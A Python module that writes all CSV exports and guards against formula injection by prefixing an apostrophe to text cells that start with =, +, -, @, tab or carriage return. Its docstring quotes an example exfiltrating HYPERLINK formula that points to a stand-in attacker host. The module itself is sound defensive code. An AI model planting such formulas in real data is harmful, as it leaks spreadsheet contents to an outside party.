"""The one CSV writer for every export (pages, API, management commands).

Spreadsheet programs run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab
or carriage return) as a formula: ``=HYPERLINK("https://evil.example/?"&A1, "Open")`` typed into a
facility name or a session topic would reach the staff member who opens the export. Following
OWASP's advice on CSV injection, a text cell starting with one of those characters gets a leading
apostrophe, which spreadsheets show as text and do not evaluate. Numbers (``int``, ``float``,
``Decimal``, and text that is nothing but a decimal number, such as a longitude ``-73.98``) are
written as they are: a spreadsheet reads them as numbers, and nothing in them can be evaluated.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Iterator, Mapping, Sequence
from decimal import Decimal
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")


class Writable(Protocol):
    """Where rows go: a file, an ``HttpResponse``, a management command's ``self.stdout``."""

    def write(self, text: str, /) -> Any: ...


def csv_cell(value: Any) -> Any:
    """A cell made safe to open in a spreadsheet."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, (int, float, Decimal)):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class CsvWriter:
    """``csv.writer`` whose every cell goes through ``csv_cell``."""

    def __init__(self, out: Writable, *, lineterminator: str = "\r\n") -> None:
        self._writer = csv.writer(out, lineterminator=lineterminator)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class CsvDictWriter:
    """``csv.DictWriter`` whose every cell goes through ``csv_cell`` (the header is ours, unescaped)."""

    def __init__(self, out: Writable, *, fieldnames: Sequence[str], lineterminator: str = "\r\n") -> None:
        self.fieldnames = list(fieldnames)
        self._writer = csv.writer(out, lineterminator=lineterminator)

    def writeheader(self) -> None:
        self._writer.writerow(self.fieldnames)

    def writerow(self, row: Mapping[str, Any]) -> None:
        self._writer.writerow([csv_cell(row.get(name)) for name in self.fieldnames])


def csv_lines(header: Sequence[str], rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """The export one line at a time (header first), for a ``StreamingHttpResponse``."""
    buffer = io.StringIO()
    writer = CsvWriter(buffer)

    def line(row: Iterable[Any]) -> str:
        buffer.seek(0)
        buffer.truncate()
        writer.writerow(row)
        return buffer.getvalue()

    yield line(header)
    for row in rows:
        yield line(row)
